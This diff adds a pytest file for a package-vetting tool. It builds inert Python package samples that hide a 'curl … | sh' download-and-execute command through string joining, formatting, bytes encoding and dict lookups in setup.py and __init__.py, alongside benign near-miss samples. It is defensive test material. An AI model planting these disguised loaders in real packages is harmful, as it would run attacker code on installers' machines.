@@ -1,0 +1,198 @@
+"""A red-team pass after ADR 0154 (issue 16; ADR 0161): what an attacker who has read that
+a string built by ``+`` or an f-string keeps its known head tries next.
+
+* The payload or a ``curl … | sh`` command joined or formatted into a variable first
+  (``code = ''.join([P, x])``, ``'%s %s' % (CMD, x)``, ``'{}{}'.format(P, x)``), or a
+  command template filled by ``.format(x)`` or ``.replace('ARG', x)``: the string keeps the
+  known text of its items when its start is written, as ``+`` does.
+* The built string passed through ``strip``, ``replace``, ``encode`` or ``decode``, or the
+  payload added as bytes (``P.encode() + x.encode()``): the same text runs.
+* The payload or the command kept in a dict literal and looked up by a written key
+  (``CONFIG = {'post_install': CMD}; run(CONFIG['post_install'], shell=True)``): a dict of
+  written strings folds, so its entry is read as the string itself.
+
+Near-misses a real package writes stay allowed: a compiler command joined or formatted with
+flags from the environment, ``git describe`` formatted with a ref, a class template filled
+by ``.format`` or ``%`` and exec'd, a table of make commands picked by an argument, headers
+and payload dicts handed to a client when called. Each sample is inert (vetting only reads
+files)."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package
+
+CURL = "curl -s http://203.0.113.5/x | sh"
+PAYLOAD = "import os\nos.system(" + repr(CURL) + ")\n"
+X = "sys.argv[0][:0]"  # an unknown that adds nothing
+HEAD = f"import os, subprocess, sys\nP = {PAYLOAD!r}\nCURL = {CURL!r}\n"
+
+
+def on_import(body: str) -> dict[str, str]:
+    """``__init__.py`` holding the payload and the command, then ``body``."""
+    return init(HEAD + body)
+
+
+def on_install(body: str) -> dict[str, str]:
+    """``setup.py`` running ``body`` at module level."""
+    return {
+        "setup.py": HEAD + "from setuptools import setup\n" + body + "setup(name='evpkg')\n",
+        "evpkg/__init__.py": "",
+    }
+
+
+def in_install_command(body: str) -> dict[str, str]:
+    """``setup.py`` whose install command runs ``body``."""
+    lines = "".join(f"        {line}\n" for line in body.splitlines())
+    return {
+        "setup.py": (
+            HEAD + "from setuptools import setup\n"
+            "from setuptools.command.install import install\n"
+            "class Install(install):\n    def run(self):\n"
+            f"{lines}        install.run(self)\n"
+            "setup(name='evpkg', cmdclass={'install': Install})\n"
+        ),
+        "evpkg/__init__.py": "",
+    }
+
+
+def built(body: str) -> dict[str, str]:
+    """A setup.py helper's near-miss: ``body`` at module level of ``setup.py``."""
+    return {
+        "setup.py": "import os, subprocess, sys\nfrom setuptools import setup\n"
+        + body
+        + "setup(name='evpkg')\n",
+        "evpkg/__init__.py": "",
+    }
+
+
+DENIED: dict[str, dict[str, str]] = {
+    # Joined or formatted into a variable, then run.
+    "payload-joined-into-a-variable": on_import(f"code = ''.join([P, {X}])\nexec(code)\n"),
+    "payload-joined-by-lines-into-a-variable": on_import(
+        f"code = '\\n'.join([P, {X}])\nexec(code)\n"
+    ),
+    "payload-percent-formatted-into-a-variable": on_import(
+        f"code = '%s%s' % (P, {X})\nexec(code)\n"
+    ),
+    "payload-formatted-into-a-variable": on_import(
+        f"code = '{{}}{{}}'.format(P, {X})\nexec(code)\n"
+    ),
+    "command-joined-into-a-variable": on_import(f"cmd = ' '.join([CURL, {X}])\nos.system(cmd)\n"),
+    "command-joined-in-the-call": on_import(f"os.system(' '.join([CURL, {X}]))\n"),
+    "command-percent-formatted-into-a-variable": on_import(
+        f"cmd = '%s %s' % (CURL, {X})\nos.system(cmd)\n"
+    ),
+    "command-formatted-into-a-variable": on_import(
+        f"cmd = '{{}} {{}}'.format(CURL, {X})\nos.system(cmd)\n"
+    ),
+    "command-formatted-run-by-a-shell": on_import(
+        f"cmd = '{{}} {{}}'.format(CURL, {X})\nsubprocess.run(cmd, shell=True)\n"
+    ),
+    "command-formatted-for-popen": on_import(f"os.popen('{{}} {{}}'.format(CURL, {X}))\n"),
+    "command-formatted-for-an-asyncio-shell": on_import(
+        f"import asyncio\ncmd = '{{}} {{}}'.format(CURL, {X})\n"
+        "asyncio.run(asyncio.create_subprocess_shell(cmd))\n"
+    ),
+    "command-template-filled-by-format": on_import(
+        f"os.system('curl -s http://203.0.113.5/{{}} | sh'.format({X}))\n"
+    ),
+    "command-formatted-in-setup-py": on_install(
+        f"cmd = '{{}} {{}}'.format(CURL, {X})\nos.system(cmd)\n"
+    ),
+    "command-joined-for-a-shell-in-setup-py": on_install(
+        f"subprocess.call(' '.join([CURL, {X}]), shell=True)\n"
+    ),
+    "command-percent-formatted-in-an-install-command": in_install_command(
+        f"cmd = '%s %s' % (CURL, {X})\nos.system(cmd)"
+    ),
+    # Passed through a method that keeps its text, or added as bytes.
+    "payload-stripped": on_import(f"code = (P + {X}).strip()\nexec(code)\n"),
+    "payload-replaced": on_import(f"code = (P + {X}).replace('#', '')\nexec(code)\n"),
+    "payload-encoded-and-added": on_import(f"code = P.encode() + {X}.encode()\nexec(code)\n"),
+    "payload-added-as-bytes-then-decoded": on_import(
+        f"code = P.encode() + {X}.encode()\nexec(code.decode())\n"
+    ),
+    "command-stripped": on_import(f"cmd = (CURL + ' ' + {X}).strip()\nos.system(cmd)\n"),
+    "command-template-filled-by-replace": on_import(
+        f"os.system('curl -s http://203.0.113.5/ARG | sh'.replace('ARG', {X}))\n"
+    ),
+    # Kept in a dict literal.
+    "command-in-a-config-dict": on_import(
+        "CONFIG = {'post_install': CURL, 'name': 'evpkg'}\n"
+        "subprocess.run(CONFIG['post_install'], shell=True)\n"
+    ),
+    "command-in-a-dict": on_import("CMDS = {'u': CURL}\nos.system(CMDS['u'])\n"),
+    "command-in-a-dict-with-an-argument-added": on_import(
+        f"CMDS = {{'u': CURL}}\nos.system(CMDS['u'] + {X})\n"
+    ),
+    "payload-in-a-dict": on_import("D = {'p': P}\nexec(D['p'])\n"),
+    "payload-in-a-dict-with-an-argument-added": on_import(f"D = {{'p': P}}\nexec(D['p'] + {X})\n"),
+    "command-in-a-dict-in-setup-py": on_install(
+        "HOOKS = {'post': CURL}\nos.system(HOOKS['post'])\n"
+    ),
+}
+
+ALLOWED: dict[str, dict[str, str]] = {
+    "compiler-command-joined-with-flags-in-setup-py": built(
+        "CC = 'cc'\nflags = os.environ.get('CFLAGS', '')\n"
+        "subprocess.check_call(' '.join([CC, '-O2', flags, '-c', 'x.c']), shell=True)\n"
+    ),
+    "compiler-command-percent-formatted-in-setup-py": built(
+        "flags = os.environ.get('CFLAGS', '')\nos.system('cc %s -c probe.c -o probe.o' % flags)\n"
+    ),
+    "compiler-command-stripped-in-setup-py": built(
+        "cmd = ('cc -c probe.c ' + os.environ.get('CFLAGS', '')).strip()\nos.system(cmd)\n"
+    ),
+    "git-describe-formatted-in-setup-py": built(
+        "ref = os.environ.get('REF', 'HEAD')\n"
+        "out = subprocess.check_output('git describe --tags {}'.format(ref), shell=True)\n"
+    ),
+    "make-commands-picked-by-argument-in-setup-py": built(
+        "COMMANDS = {'build': 'make -C src', 'clean': 'make clean'}\n"
+        "if len(sys.argv) > 1 and sys.argv[1] in COMMANDS:\n"
+        "    os.system(COMMANDS[sys.argv[1]])\n"
+    ),
+    "make-command-looked-up-in-setup-py": built(
+        "COMMANDS = {'build': 'make -C src', 'clean': 'make clean'}\n"
+        "subprocess.check_call(COMMANDS['build'], shell=True)\n"
+    ),
+    "environment-dict-for-make-in-setup-py": built(
+        "ENV = {'CC': 'gcc', 'CFLAGS': '-O2'}\n"
+        "subprocess.check_call(['make'], env=dict(os.environ, **ENV))\n"
+    ),
+    "headers-dict-for-a-request-when-called": init(
+        "import requests\nHEADERS = {'User-Agent': 'evpkg/1.0', 'Accept': 'application/json'}\n"
+        "def fetch(u):\n    return requests.get(u, headers=HEADERS).json()\n"
+    ),
+    "payload-dict-posted-when-called": init(
+        "import requests\nPAYLOAD = {'name': 'evpkg', 'version': '1.0'}\n"
+        "def ping(u):\n    requests.post(u, json=PAYLOAD)\n"
+    ),
+    "accessor-template-formatted-and-exec-d-on-import": init(
+        "import sys\nT = 'def get_{0}(self):\\n    return self._d[{0!r}]\\n'\n"
+        "for n in sys.argv[1:]:\n    exec(T.format(n))\n"
+    ),
+    "class-template-percent-formatted-and-exec-d-on-import": init(
+        "import sys\nTEMPLATE = 'class %s(tuple):\\n    __slots__ = ()\\n'\n"
+        "exec(TEMPLATE % sys.argv[0], {})\n"
+    ),
+    "init-joined-from-fields-and-exec-d-on-import": init(
+        "import sys\nfields = sys.argv[1:]\n"
+        "src = '\\n'.join(['def __init__(self, %s):' % ', '.join(fields), '    pass'])\n"
+        "exec(src, {})\n"
+    ),
+    "config-path-looked-up-in-a-table-when-called": init(
+        "import os, json\n"
+        "PATHS = {'nt': '~/AppData/evpkg.json', 'posix': '~/.config/evpkg.json'}\n"
+        "def save(d):\n    with open(os.path.expanduser(PATHS['posix']), 'w') as f:\n"
+        "        json.dump(d, f)\n"
+    ),
+}
+
+
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
+def test_built_strings_keep_their_known_text(files: dict[str, str], expected: Outcome) -> None:
+    assert vet_package(files) is expected
